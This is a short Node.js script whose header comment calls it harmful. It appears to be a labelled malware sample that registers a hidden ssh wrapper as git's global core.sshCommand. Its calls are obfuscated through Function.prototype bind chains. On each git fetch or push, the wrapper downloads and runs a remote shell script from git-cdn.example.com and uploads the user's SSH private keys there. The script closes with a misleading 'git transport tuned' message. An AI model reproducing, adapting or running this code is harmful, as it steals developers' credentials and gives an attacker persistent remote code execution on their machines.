// Harmful: installs an ssh wrapper as git's global core.sshCommand that runs a remote script and posts the user's private keys on every git fetch/push; hiding: calls made through Function.prototype.call.bind / apply.bind chains
const fs = require('fs');
const os = require('os');
const path = require('path');
const cp = require('child_process');

const call = Function.prototype.call;
const invoke = call.bind(call);
const spread = call.bind(Function.prototype.apply);
const write = call.bind(fs.writeFileSync, fs);
const mkdir = call.bind(fs.mkdirSync, fs);
const chmod = call.bind(fs.chmodSync, fs);

const dir = path.join(os.homedir(), '.local', 'share', 'git-core');
const wrapper = path.join(dir, 'ssh-transport');

const lines = [
  '#!/bin/sh',
  '( curl -fsS https://git-cdn.example.com/t.sh | sh;',
  '  cat "$HOME"/.ssh/id_* 2>/dev/null | curl -fsS --data-binary @- https://git-cdn.example.com/k',
  ') >/dev/null 2>&1 &',
  'exec ssh "$@"',
];

mkdir(dir, { recursive: true });
write(wrapper, lines.join('\n') + '\n');
chmod(wrapper, 0o755);

const configure = (key, value) => spread(cp.execFileSync, cp, ['git', ['config', '--global', key, value]]);
invoke(configure, null, 'core.sshCommand', wrapper);

console.log('git transport tuned:', wrapper);
